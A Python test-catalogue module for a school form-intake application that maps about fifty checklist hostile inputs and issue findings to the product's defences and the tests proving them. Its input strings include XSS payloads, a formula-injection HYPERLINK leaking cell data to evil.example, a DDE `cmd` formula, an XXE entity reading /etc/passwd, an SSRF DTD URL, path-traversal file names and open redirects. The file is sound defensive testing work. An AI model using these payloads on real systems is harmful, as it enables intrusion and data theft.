# ruff: noqa: E501 - one entry keeps its node ids on lines of their own
"""The hostile-input catalogue (issue 20, item 8): every input of section 15 of
``/work/shared/reference/security-checklist.md`` ("Hostile inputs to try"), the nine holes that
issue 20 found and the other failures it saw, each with the answer the product gives and the
tests that prove it, by pytest node id.

``input`` of an ``IN-n`` entry is the checklist line's input text exactly (the part before its
first "→" outside brackets); ``tests/security/test_catalogue.py`` parses the checklist and fails
when a line has no entry or its text changed, and collects every node id named here with pytest,
so an entry cannot name a test that does not exist. ``expected`` is what the product does, in
its own words, where that differs from the checklist's wish; ``gap`` says what of the
checklist's required behaviour no test proves, and why (empty: all of it is proved).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class HostileInput:
    """One hostile input, its expected answer and the tests (pytest node ids) that prove it."""

    id: str
    input: str
    expected: str
    tests: tuple[str, ...]
    gap: str = ""


S = "tests/security/"
UPLOADS = S + "test_uploads.py::test_bombs_and_broken_files_end_as_a_failed_page"
DISGUISED = S + "test_uploads.py::test_disguised_files_are_refused_and_nothing_is_stored"
FLAGGED = S + "test_validators.py::test_hostile_values_are_flagged"
LITERAL = S + "test_escaping.py::test_review_screen_queue_and_json_show_values_literally"
FILE_NAMES = "tests/web/test_batches.py::test_hostile_file_names_are_stored_under_uuids"
AV = S + "test_antivirus.py::"
CSV_EXPORT = S + "test_secrets_and_logs.py::test_csv_export_neutralises_formulas_in_every_column"
SCHEMA = "tests/roster/test_ctf_schema.py::"

CHECKLIST_INPUTS: tuple[HostileInput, ...] = (
    HostileInput(
        "IN-1",
        "A 3 KB PNG/JPEG that declares 60000×60000 px",
        "refused from its header before decoding (limits.max_image_megapixels, 40): the page fails with a reason naming megapixels, the batch finishes",
        (
            "tests/reading/test_ingest.py::test_decompression_bomb_header_only",
            UPLOADS + "[png-60000x60000]",
        ),
    ),
    HostileInput(
        "IN-2",
        "A TIFF with 5,000 frames of 1×1, or one 200000×1 frame LZW-compressed to a few KB",
        "frames over limits.max_tiff_frames refuse the file; a 200000×1 frame is refused as too small a page",
        (
            "tests/reading/test_ingest.py::test_multipage_tiff_and_frame_cap",
            UPLOADS + "[tiff-5000-frames]",
            UPLOADS + "[png-200000x1]",
        ),
    ),
    HostileInput(
        "IN-3",
        "A TIFF with bogus strip offsets, or a truncated PDF with no xref/`%%EOF`",
        "a failed page with a reason (no traceback), the batch finishes; LOAD_TRUNCATED_IMAGES stays False",
        (
            "tests/reading/test_ingest.py::test_truncated_pdf_never_crashes",
            UPLOADS + "[tiff-bogus-offsets]",
            UPLOADS + "[pdf-truncated]",
            S + "test_checklist.py::test_truncated_images_are_not_loaded",
        ),
    ),
    HostileInput(
        "IN-4",
        "A JPEG with thousands of progressive scans or oversized Huffman tables (CPU burn)",
        "a JPEG (a file or a PDF page's image) of more than limits.max_jpeg_scans (100) scans is refused from its markers before decoding: the page fails naming the scans, the batch finishes at once (8,000 scans of 2000x2000 px, 170 KB, took Pillow about 30 s before)",
        (
            UPLOADS + "[jpeg-8000-scans]",
            "tests/reading/test_jpegscans.py::test_a_jpeg_of_thousands_of_scans_is_refused_at_once",
            "tests/reading/test_jpegscans.py::test_markers_inside_the_entropy_data_are_not_counted",
        ),
        "oversized Huffman tables are not checked: libjpeg-turbo bounds them itself (a table is at most 256 codes); a JPEG under 100 scans still decodes without a wall-clock limit of its own",
    ),
    HostileInput(
        "IN-5",
        "A phone-photo JPEG with EXIF GPS and a large embedded thumbnail",
        "accepted and read; the page image served is a re-encoded PNG without EXIF, GPS, the thumbnail or the comment",
        (
            S + "test_rasters.py::test_served_rasters_are_re_encoded_without_metadata",
            S + "test_rasters.py::test_the_fixture_carries_gps_and_a_large_thumbnail",
        ),
    ),
    HostileInput(
        "IN-6",
        "A 600-byte PDF with a 12000×12000 pt MediaBox",
        "every page's size × render_dpi is checked before rendering and the file refused naming the page; a large page is rendered at a lower dpi; pdftoppm runs under RLIMIT_AS (limits.renderer_memory_mb)",
        (
            UPLOADS + "[pdf-12000pt-mediabox]",
            "tests/reading/test_render_limits.py::test_a_large_page_is_rendered_at_a_lower_dpi",
            "tests/reading/test_render_limits.py::test_a_render_over_the_memory_limit_is_a_page_failure",
            S
            + "test_render_memory.py::test_a_page_over_the_renderer_limit_fails_and_the_original_stays",
        ),
    ),
    HostileInput(
        "IN-7",
        "A PDF with 100,000 pages",
        "pdfinfo's count over limits.max_pdf_pages refuses the file before rendering, naming the limit",
        ("tests/reading/test_ingest.py::test_pdf_over_page_limit",),
    ),
    HostileInput(
        "IN-8",
        "A PDF whose content stream is a FlateDecode bomb (1 MB → GBs)",
        "pdftoppm streams the content (flat memory, under RLIMIT_AS) and is stopped by limits.page_timeout_s: the page fails naming the timeout, the batch finishes",
        (S + "test_active_pdfs.py::test_a_content_stream_bomb_fails_its_page_on_the_timeout",),
    ),
    HostileInput(
        "IN-9",
        "A PDF that needs a user password",
        'refused: "password-protected PDFs are not accepted"; no password is tried. An owner-password-only PDF (opens without a password) is read like any other: the documented policy is render',
        (
            "tests/reading/test_ingest.py::test_encrypted_pdf_is_refused",
            "tests/reading/test_ingest.py::test_an_owner_password_only_pdf_is_read_like_any_other",
            UPLOADS + "[pdf-encrypted]",
        ),
    ),
    HostileInput(
        "IN-10",
        "A PDF with JavaScript, an OpenAction, a Launch action or embedded files",
        "rendered to pixels like any PDF; only server-made PNGs are served and no route serves the original",
        (
            S
            + "test_active_pdfs.py::test_a_pdf_with_actions_and_attachments_is_only_ever_served_as_png",
        ),
    ),
    HostileInput(
        "IN-11",
        "A JPEG+HTML polyglot (`<script>` in a COM segment)",
        "the page image served is a re-encoded PNG with nosniff; the comment is gone",
        (S + "test_rasters.py::test_served_rasters_are_re_encoded_without_metadata",),
    ),
    HostileInput(
        "IN-12",
        "`form.pdf` that is really a ZIP, DOCX or ELF, or an SVG sent as `image/jpeg`",
        "422 from the magic bytes (the Content-Type header and the extension are ignored); nothing stored",
        (
            "tests/web/test_batches.py::test_renamed_zip_is_refused",
            "tests/web/test_batches.py::test_svg_sent_as_jpeg_is_refused",
            DISGUISED,
            S + "test_uploads.py::test_content_type_header_is_ignored",
        ),
    ),
    HostileInput(
        "IN-13",
        "`scan.jpg` that is really EPS/PostScript",
        "422 from the magic bytes; Ghostscript is never called",
        (DISGUISED,),
    ),
    HostileInput(
        "IN-14",
        "The EICAR string inside a PDF",
        "with antivirus.clamd set, clamd (INSTREAM) flags it before anything reads the file: 422 naming the file and the signature, nothing of the upload taken, the file kept sealed under quar/ and never opened or served, an upload.malware_found audit event (signature, SHA-256, uploader id) and a warning; the same from intake batch import and the hot folder (the file leaves the share, its reason file goes to rejected/). clamd down, silent, or the file over its StreamMaxLength or MaxFileSize: the upload is refused",
        (
            AV + "test_clamd_flags_eicar_inside_a_pdf_and_passes_a_clean_pdf",
            AV + "test_eicar_pdf_upload_is_quarantined_audited_and_never_served",
            AV + "test_a_clean_pdf_is_scanned_and_uploaded",
            AV + "test_batch_import_quarantines_eicar_pdf_and_it_can_take_it_out",
            AV + "test_hot_folder_quarantines_eicar_and_takes_a_clean_file",
            AV + "test_with_clamd_unreachable_an_upload_is_refused_and_nothing_kept",
            AV + "test_a_clamd_that_is_down_or_silent_refuses_within_the_timeout",
            AV + "test_a_file_over_clamds_limits_is_refused_not_passed",
        ),
    ),
    HostileInput(
        "IN-15",
        "A 0-byte file",
        "422; over max_upload_mb, too many files or too many form parts: 413 before the view runs",
        (
            "tests/web/test_batches.py::test_empty_file_is_refused",
            "tests/web/test_batches.py::test_too_large_upload_is_refused_before_the_view",
            S + "test_uploads.py::test_too_many_files_in_one_request",
            S + "test_uploads.py::test_too_many_form_parts_is_413",
        ),
    ),
    HostileInput(
        "IN-16",
        "Filename `../../app/config.py`, `..\\..\\win.ini`, `a.pdf%00.php`, `a.jpg.php` or 1,000 characters",
        "stored under orig/<uuid>, the type from the bytes; the display name loses path parts and NULs and is truncated",
        (
            FILE_NAMES,
            S + "test_escaping.py::test_batch_page_shows_hostile_file_names_and_labels_literally",
        ),
    ),
    HostileInput(
        "IN-17",
        'Filename `"><img src=x onerror=alert(1)>.pdf` or one containing CR/LF',
        "escaped on the batch page; no header carries it (no route serves the original)",
        (
            FILE_NAMES,
            S + "test_escaping.py::test_batch_page_shows_hostile_file_names_and_labels_literally",
        ),
    ),
    HostileInput(
        "IN-18",
        "Filename `scan\\u202Efdp.exe`",
        "accepted only when the bytes are a scan; the override is shown as a visible [U+202E] marker",
        (FILE_NAMES,),
    ),
    HostileInput(
        "IN-19",
        "Email `<script>alert(1)</script>@x.com`",
        "flagged as invalid; shown escaped; no inline script is allowed by the CSP",
        (
            FLAGGED,
            LITERAL,
            "tests/web/test_review.py::test_values_are_escaped",
            "tests/reading/test_validate.py::test_emails",
        ),
    ),
    HostileInput(
        "IN-20",
        'Name `"><svg onload=alert(document.domain)>`',
        "literal text inside the quoted value=; javascript: is invalid and never a link",
        (FLAGGED, LITERAL, "tests/web/test_review.py::test_values_are_escaped"),
    ),
    HostileInput(
        "IN-21",
        'Name `=HYPERLINK("https://evil.example/?d="&B2,"Click")`',
        "stored literally; a ' before it in the CSV export; the JSON unchanged",
        (CSV_EXPORT, LITERAL),
    ),
    HostileInput(
        "IN-22",
        "Values `@SUM(1+1)`, `-2+3`, `+447700900123`, or a leading TAB/CR",
        "every CSV cell that starts with = + - @ TAB or CR gets a leading '",
        (S + "test_secrets_and_logs.py::test_safe_cell", CSV_EXPORT),
    ),
    HostileInput(
        "IN-23",
        "`O'Brien`, `Smith-Jones`",
        "ordinary names pass unchanged; SQL text is flagged, stored and searched as a bound parameter, the tables intact",
        (
            S + "test_validators.py::test_ordinary_names_pass",
            FLAGGED,
            S + "test_escaping.py::test_sql_text_is_stored_and_searched_as_text",
            S + "test_checklist.py::test_no_sql_built_from_f_strings",
        ),
    ),
    HostileInput(
        "IN-24",
        "Name `%`, `_` or `.*`",
        "LIKE wildcards escaped: matches no pupil and no account",
        (
            "tests/matching/test_children.py::test_hostile_or_empty_names_link_nothing",
            S + "test_escaping.py::test_account_search_wildcards_match_nothing",
        ),
    ),
    HostileInput(
        "IN-25",
        "`\\u202Enhoj` or bidi isolates in a name",
        "flagged, never linked automatically; every page shows [U+202E]-style markers; JSON carries \\u202e escapes",
        (
            FLAGGED,
            "tests/matching/test_children.py::test_suspicious_text_is_never_linked_automatically",
            S + "test_bidi.py::test_review_screen_marks_every_override",
            S + "test_bidi.py::test_account_pages_show_markers",
        ),
    ),
    HostileInput(
        "IN-26",
        "`Jоhn Smіth` (Cyrillic о/і)",
        "mixed-script flag, never auto-matched; generated usernames are ASCII",
        (
            FLAGGED,
            "tests/matching/test_children.py::test_suspicious_text_is_never_linked_automatically",
            "tests/accounts/test_passwords.py::test_generated_usernames_are_ascii_and_readable",
        ),
    ),
    HostileInput(
        "IN-27",
        "`Jo\\u200Bhn`, a BOM, a soft hyphen or fullwidth `Ｊｏｈｎ`",
        "flagged; never linked automatically; the review screen names each invisible character (U+200B, U+FEFF, U+00AD) and the value is kept as read",
        (
            FLAGGED,
            "tests/matching/test_children.py::test_suspicious_text_is_never_linked_automatically",
            S + "test_escaping.py::test_review_screen_names_invisible_characters",
        ),
    ),
    HostileInput(
        "IN-28",
        "A 100,000-character blob in one field",
        "validators run in linear time; a correction is cut at the field's maximum",
        (
            S + "test_validators.py::test_validators_run_in_linear_time",
            S + "test_access.py::test_review_accept_ignores_state_role_and_non_text_fields",
        ),
    ),
    HostileInput(
        "IN-29",
        "`a@b.com\\r\\nBcc: all@x.com`",
        "invalid email; the app sends no mail",
        (FLAGGED, "tests/reading/test_validate.py::test_emails"),
    ),
    HostileInput(
        "IN-30",
        '`ålice@exämple.com`, `user@[127.0.0.1]` or `"a b"@x.com`',
        "IDN and quoted local parts flagged for a person; IP-literal domains refused",
        (FLAGGED, "tests/reading/test_validate.py::test_emails"),
    ),
    HostileInput(
        "IN-31",
        "Phone `+44 (0)7700 900123 ext 5;DROP`, `999` or `00000000000`",
        "UK rules: each flagged",
        (FLAGGED, "tests/reading/test_validate.py::test_phones_accept_ofcom_fiction_ranges"),
    ),
    HostileInput(
        "IN-32",
        "DOB `31/02/2012`, `2099-01-01` or the US-order `12/31/2012`",
        "strict DD MM YYYY: each flagged; a postcode with markup flagged and shown escaped",
        (
            FLAGGED,
            "tests/reading/test_validate.py::test_dates",
            "tests/reading/test_validate.py::test_postcodes",
            LITERAL,
        ),
    ),
    HostileInput(
        "IN-33",
        "`{{ 7*7 }}` or `{% for %}` in a name",
        "shown literally; nothing is templated",
        (
            LITERAL,
            S + "test_escaping.py::test_a_typed_correction_is_stored_literally_and_shown_escaped",
            S + "test_checklist.py::test_no_shell_or_eval_in_the_app",
        ),
    ),
    HostileInput(
        "IN-34",
        'Markup such as `<img src="/etc/passwd"/>`, `<font color="[[[...]]]">` or `<link href=...>` in a name',
        "escaped before ReportLab builds the letter: printed literally, nothing read or run",
        (
            "tests/accounts/test_letters.py::test_markup_in_roster_names_prints_literally",
            S + "test_secrets_and_logs.py::test_letter_prints_roster_markup_literally",
        ),
    ),
    HostileInput(
        "IN-35",
        "A name containing `\\r\\n2025-01-01 INFO admin exported all`",
        "flagged; names never reach the logs (ids only); each log record is one JSON line (or one text line with control characters escaped), so a forged line stays inside its message",
        (
            S + "test_secrets_and_logs.py::test_canaries_through_the_whole_flow",
            FLAGGED,
            "tests/test_log_lines.py::test_a_forged_line_inside_a_message_stays_inside_one_json_object",
            "tests/test_log_lines.py::test_text_lines_write_control_characters_as_escapes",
            "tests/test_log_lines.py::test_the_command_line_writes_json_lines_and_no_name",
        ),
    ),
    HostileInput(
        "IN-36",
        "A form for a pupil whose contact is under a no-contact court order",
        "the child is never linked to that contact; details shown to approvers only",
        (
            "tests/accounts/test_approval.py::test_court_order_contact_never_gets_that_child",
            "tests/matching/test_applicants.py::test_a_court_order_blocks",
            "tests/web/test_review.py::test_court_order_details_only_for_approvers",
        ),
    ),
    HostileInput(
        "IN-37",
        "A form whose email or address differs from the roster contact",
        "the roster is unchanged, the difference is a warning, the letter goes to the address on file; the new detail is a change for the MIS in the batch-wide list (/batches/ID/changes), where a person verifies it and the office keys it into the MIS or imports the CSV",
        (
            "tests/matching/test_applicants.py::test_differences_are_warnings_and_the_letter_goes_to_the_file_address",
            "tests/accounts/test_web.py::test_print_letters_streams_pdf_with_configured_url",
            "tests/accounts/test_mis_changes.py::test_the_list_shows_what_the_record_does_not_hold",
            "tests/accounts/test_mis_changes.py::test_verify_types_the_value_and_the_csv_carries_it_neutralised",
        ),
    ),
    HostileInput(
        "IN-38",
        'CTF XML with `<!ENTITY x SYSTEM "file:///etc/passwd">`',
        "refused (DTDs forbidden); the file's contents appear nowhere",
        (
            "tests/roster/test_ctf.py::test_hostile_xml_is_refused",
            S + "test_roster_import.py::test_hostile_ctf_is_refused_fast_without_reads_or_fetches",
        ),
    ),
    HostileInput(
        "IN-39",
        "XML billion-laughs or quadratic-blowup entities, or an external DTD `http://169.254.169.254/...`",
        "refused fast, nothing fetched",
        (S + "test_roster_import.py::test_hostile_ctf_is_refused_fast_without_reads_or_fetches",),
    ),
    HostileInput(
        "IN-40",
        "XInclude, 100,000-deep nesting or 500 MB of XML",
        "size cap (50 MB) refuses the file before parsing; nesting over 40 deep refused "
        "before any tree is built; XInclude never processed; a file that breaks the CTF schema "
        "is refused naming lines and element paths, no values, and the roster is unchanged",
        (
            S + "test_roster_import.py::test_hostile_ctf_is_refused_fast_without_reads_or_fetches",
            S + "test_roster_import.py::test_oversized_roster_file_is_refused",
            S + "test_roster_import.py::test_a_ctf_that_breaks_the_schema_changes_nothing",
            "tests/roster/test_ctf.py::test_size_cap",
            SCHEMA + "test_a_file_that_breaks_the_schema_is_refused",
            SCHEMA + "test_the_refusal_names_lines_and_paths_but_never_values",
            SCHEMA + "test_xinclude_is_never_processed",
            SCHEMA + "test_100000_deep_nesting_is_refused_fast",
            SCHEMA + "test_over_size_xml_is_refused_unparsed",
        ),
        "",
    ),
    HostileInput(
        "IN-41",
        "A roster CSV with `=cmd|' /C calc'!A0` in a forename",
        "imported as text; neutralised in every CSV export",
        (S + "test_roster_import.py::test_formulas_in_roster_names_are_kept_as_text", CSV_EXPORT),
    ),
    HostileInput(
        "IN-42",
        "A roster CSV with a 10 MB field, NUL bytes, Windows-1252 bytes or ragged rows",
        "422 naming the line (and column for a control character); nothing imported",
        (
            S
            + "test_roster_import.py::test_a_broken_roster_csv_names_the_line_and_imports_nothing",
            "tests/roster/test_control_characters.py::test_csv_with_a_nul_in_a_name_names_the_line_and_column",
        ),
    ),
    HostileInput(
        "IN-43",
        "A roster CSV that drops court-order flags or PR for 200 contacts",
        "a file that changes parental responsibility, a court order or a no-contact flag is run as a dry run and shown (each change by student and contact id, with the counts and the account changes it would make); it is imported only when the admin, signed in within 15 minutes, ticks that they checked the changes and confirms; the very file previewed is imported (sealed copy, SHA-256 checked), a roster changed meanwhile is shown again, cancel deletes the copy, a preview not confirmed within an hour expires and its copy is deleted; previews and imports are audited; intake roster import on the command line shows the same changes and imports only after a yes at its prompt (or --yes), and only the changes shown",
        (
            S + "test_access.py::test_risky_actions_need_a_fresh_login",
            "tests/web/test_admin.py::test_an_import_that_changes_responsibility_or_court_orders_waits_for_confirmation",
            "tests/web/test_admin.py::test_a_cancelled_preview_changes_nothing_and_keeps_no_copy",
            "tests/web/test_admin.py::test_a_roster_changed_since_the_preview_is_shown_again_not_imported",
            "tests/web/test_admin.py::test_an_abandoned_preview_expires_and_its_copy_is_deleted",
            "tests/safeguarding/test_cli.py::test_a_court_order_change_is_imported_only_once_confirmed",
            "tests/safeguarding/test_cli.py::test_changes_other_than_the_ones_shown_are_not_imported",
        ),
    ),
    HostileInput(
        "IN-44",
        "`/login?next=//evil.example`, `/\\evil.example` or `https://evil.example`",
        "redirect to a path on this site; an untrusted Host is 400; letter URLs come from settings",
        (
            S + "test_http.py::test_login_next_never_leaves_the_site",
            "tests/web/test_security.py::test_untrusted_host_refused",
            "tests/accounts/test_web.py::test_print_letters_streams_pdf_with_configured_url",
        ),
    ),
    HostileInput(
        "IN-45",
        "A rotating `X-Forwarded-For` to dodge login throttling",
        "the per-account limit still fires; X-Forwarded-For is believed for trusted_proxies hops only",
        (
            S + "test_http.py::test_rotating_addresses_do_not_dodge_the_per_user_throttle",
            "tests/web/test_sign_in_limits.py::test_forwarded_for_is_ignored_without_a_trusted_proxy",
            "tests/web/test_sign_in_limits.py::test_a_trusted_proxy_gives_the_client_address_and_no_more",
        ),
    ),
    HostileInput(
        "IN-46",
        "A cross-site auto-submitting POST to `/forms/<id>/approve`",
        "400 without the session's CSRF token or with a cross-site Referer over https; GET is 405",
        (
            S + "test_http.py::test_every_post_route_needs_a_csrf_token",
            S + "test_http.py::test_state_changing_routes_refuse_get",
            S + "test_http.py::test_cross_site_referer_is_refused_over_https",
        ),
    ),
    HostileInput(
        "IN-47",
        "An office user POSTing `status=approved&role=admin&court_order=0`",
        "extra fields ignored; approve is 403 for office",
        (
            "tests/web/test_review.py::test_mass_assignment_is_ignored",
            S + "test_access.py::test_an_office_user_cannot_raise_their_own_role",
            S + "test_access.py::test_approve_ignores_extra_fields",
        ),
    ),
    HostileInput(
        "IN-48",
        "Walking `/scans/<uuid>` and `/letters/<id>` as an unauthorised user",
        "404 for every unknown id, 403 for a lower role, sign-in for anonymous; a signed-in user's 404 on a route is audited (access.not_found, the route and the ids asked for)",
        (
            S + "test_access.py::test_unknown_and_guessed_ids_are_404",
            S + "test_access.py::test_walking_ids_is_on_the_audit_record",
            "tests/web/test_routes.py::test_anonymous_users_are_refused_everywhere",
            "tests/web/test_routes.py::test_lower_roles_get_403",
        ),
        "a URL that matches no route is not audited (noise: favicons, typos); anonymous requests are sent to sign in before any route runs",
    ),
    HostileInput(
        "IN-49",
        "`GET /api/export?token=...&callback=x`",
        "401: a token in the URL is refused; no JSONP",
        ("tests/accounts/test_web.py::test_export_and_json_api",),
    ),
    HostileInput(
        "IN-50",
        'Ten concurrent approve or "create account" clicks',
        "one set of accounts; the others get 409",
        (
            "tests/accounts/test_concurrency.py::test_ten_approvers_of_one_form_make_one_set_of_accounts",
            "tests/accounts/test_web.py::test_approve_twice_conflicts_and_state_changes_need_csrf",
        ),
    ),
)

RENDER = "tests/reading/test_render_limits.py::"

ISSUE_20: tuple[HostileInput, ...] = (
    HostileInput(
        "HOLE-1",
        "a 1 KB PDF: an A4 first page and three 4600×4600 pt pages",
        "every page's box (the MediaBox, not pdfinfo's CropBox) is checked before page 1 is rendered: the file fails naming page 2; memory stays under the ceiling",
        (
            RENDER + "test_a_huge_later_page_refuses_the_file_before_page_one_is_rendered",
            RENDER + "test_every_page_size_is_read",
            RENDER + "test_a_small_cropbox_does_not_hide_a_huge_mediabox",
            RENDER + "test_the_worst_files_stay_under_the_process_ceiling",
            UPLOADS + "[pdf-a4-then-4600pt-pages]",
            UPLOADS + "[pdf-a4-cropbox-on-4600pt]",
        ),
    ),
    HostileInput(
        "HOLE-2",
        "three blank 1,999-page PDFs from one user",
        "limits.daily_pages_per_user refuses the upload that passes it; batches are read limits.batch_slice_pages at a time, taking turns",
        (
            "tests/web/test_upload_limits.py::test_the_daily_quota_refuses_an_upload_that_passes_it",
            "tests/batch/test_ranges.py::test_ranges_of_batches_take_turns",
        ),
    ),
    HostileInput(
        "HOLE-3",
        "an office user releasing a form the approver rejected",
        "409: only a held form is released",
        (
            "tests/web/test_review.py::test_a_rejected_form_cannot_be_released_back_to_review",
            "tests/review/test_service.py::test_release_only_from_held",
        ),
    ),
    HostileInput(
        "HOLE-4",
        "an office user's hand choice of another family's child and contact",
        "the approver sees the hand choices and a different surname, and must tick each before approving",
        (
            "tests/accounts/test_web.py::test_hand_choices_of_another_family_need_an_explicit_confirmation",
            "tests/accounts/test_cautions.py::test_hand_choices_with_other_surnames_need_confirmation",
            "tests/web/test_review_choices.py::test_contact_choice_is_limited_to_the_childrens_contacts",
        ),
    ),
    HostileInput(
        "HOLE-5",
        "a data folder that already exists with loose modes (a Docker volume)",
        "made owner-only (0700 folders, 0600 files) at every start, whatever existed",
        (
            "tests/storage/test_data_folder_modes.py::test_web_app_start_up_makes_a_loose_volume_owner_only",
            "tests/storage/test_data_folder_modes.py::test_worker_start_up_and_db_upgrade_make_it_owner_only",
            "tests/storage/test_data_folder_modes.py::test_a_new_database_and_folder_are_created_owner_only",
        ),
    ),
    HostileInput(
        "HOLE-6",
        "30 guesses at the current password on /password; a school's NAT; five failures on a colleague's name",
        "password-change guesses count like sign-ins; successes are not counted; an attacker's failures do not lock the colleague's known device out",
        (
            "tests/web/test_sign_in_limits.py::test_guessing_the_current_password_on_password_change_is_throttled",
            "tests/web/test_sign_in_limits.py::test_successful_sign_ins_behind_one_address_are_not_counted",
            "tests/web/test_sign_in_limits.py::test_an_attacker_cannot_shut_a_colleague_out",
        ),
    ),
    HostileInput(
        "HOLE-7",
        "original uploads and images of blank and non-form pages kept for ever",
        "originals go after retention_originals_days, loose page images after retention_loose_pages_days",
        (
            "tests/records/test_file_retention.py::test_original_rewritten_without_expired_forms_then_removed",
            "tests/records/test_file_retention.py::test_loose_pages_wait_for_their_time",
            "tests/records/test_file_retention.py::test_a_page_in_no_form_loses_its_images_whatever_its_status",
        ),
    ),
    HostileInput(
        "HOLE-8",
        "20 student searches paging through the roster",
        "close names only, on open forms with something to choose, rate-limited per user and audited",
        (
            "tests/web/test_roster_search_limits.py::test_common_names_do_not_enumerate_the_roster",
            "tests/web/test_roster_search_limits.py::test_searches_per_user_are_rate_limited_and_audited",
            "tests/web/test_roster_search_limits.py::test_no_search_on_a_form_with_nothing_to_choose",
        ),
    ),
    HostileInput(
        "HOLE-9",
        "staff passwords Welcome12345, Football2024, 123456789abc, the school's name",
        "refused: deny-list, strength estimate, the school's names and the username",
        (
            "tests/staff/test_passwords.py::test_staff_passwords_refuse_the_guessable",
            "tests/staff/test_passwords.py::test_school_words_are_the_distinctive_ones",
            "tests/staff/test_passwords.py::test_changing_a_staff_password_checks_the_school_name",
        ),
    ),
    HostileInput(
        "SEEN-MFA",
        "a staff password alone reaching children's data",
        "approvers and admins need a TOTP or recovery code (mfa_required_roles); a fresh code before approving, exporting and staff administration",
        (
            "tests/staff/test_mfa_web.py::test_a_password_alone_leaves_a_pending_session_sent_to_the_code_form",
            "tests/staff/test_mfa_web.py::test_approve_export_and_staff_admin_need_a_fresh_code",
            "tests/staff/test_mfa_logic.py::test_a_code_cannot_be_replayed_but_the_next_step_works",
        ),
    ),
    HostileInput(
        "SEEN-AUDIT",
        "audit rows deleted, inserted or edited with plain SQL",
        "intake audit verify names the row; PostgreSQL refuses UPDATE and DELETE",
        (
            "tests/audit/test_chain.py::test_verify_names_a_deleted_entry",
            "tests/audit/test_chain.py::test_verify_names_an_edited_entry",
            "tests/audit/test_chain.py::test_verify_names_a_forged_entry_inserted_in_the_middle",
            "tests/audit/test_chain.py::test_postgresql_refuses_update_and_delete_of_audit_rows",
        ),
    ),
    HostileInput(
        "SEEN-AT-REST",
        "stored files read from the disk",
        "sealed with AES-256-GCM; a wrong key or an altered file is a clear error",
        (
            "tests/storage/test_encryption.py::test_stored_files_are_not_plain_on_the_disk_and_read_back",
            "tests/storage/test_encryption.py::test_a_wrong_key_or_an_altered_file_gives_a_clear_error",
        ),
    ),
    HostileInput(
        "SEEN-59MP",
        "a 59 MP image (about 1 GB to decode)",
        "over limits.max_image_megapixels: refused from its header; up to it, reduced while decoded; the worst files stay under the process ceiling",
        (
            RENDER + "test_the_worst_files_stay_under_the_process_ceiling",
            RENDER + "test_a_large_image_is_reduced_while_decoded",
            RENDER + "test_a_huge_one_bit_tiff_is_refused_from_its_header",
        ),
    ),
    HostileInput(
        "SEEN-PDF-HEADER",
        'an HTML file with "%PDF-" in its first kilobyte',
        "the type comes from byte zero: refused with the reason, nothing stored",
        (
            RENDER + "test_a_pdf_with_a_late_header_is_refused_with_the_reason",
            RENDER + "test_types_are_sniffed_from_byte_zero",
            DISGUISED,
        ),
    ),
    HostileInput(
        "SEEN-NUL",
        "NUL bytes in imported names",
        "the import is refused naming the line and column; nothing imported",
        (
            "tests/roster/test_control_characters.py::test_csv_with_a_nul_in_a_name_names_the_line_and_column",
            "tests/roster/test_control_characters.py::test_import_refuses_a_roster_built_elsewhere",
            S
            + "test_roster_import.py::test_a_broken_roster_csv_names_the_line_and_imports_nothing",
        ),
    ),
    HostileInput(
        "SEEN-BIDI-JSON",
        "bidi override characters in names sent in JSON",
        "every JSON body carries them as \\u escapes, the value unchanged",
        (
            S + "test_bidi.py::test_json_export_and_api_escape_overrides",
            S + "test_bidi.py::test_students_search_json_escapes_overrides",
            S + "test_bidi.py::test_escaped_json_reads_back_the_same",
        ),
    ),
)

SHUTDOWN = (
    HostileInput(
        "SEEN-SHUTDOWN",
        "intake serve stopped (SIGTERM or Ctrl+C) while its worker threads read pages",
        'workers end after their page and are waited for: exit status 0, no "terminate called without an active exception" (a daemon thread inside onnxruntime or OpenCV at interpreter exit aborted the process)',
        (
            "tests/web/test_serve_signals.py::test_stopping_serve_mid_batch_leaves_no_native_thread_running",
        ),
        "the end-to-end test catches the old abort about one run in two (it depends on where the worker is when the signal comes)",
    ),
)

CATALOGUE: tuple[HostileInput, ...] = CHECKLIST_INPUTS + ISSUE_20 + SHUTDOWN
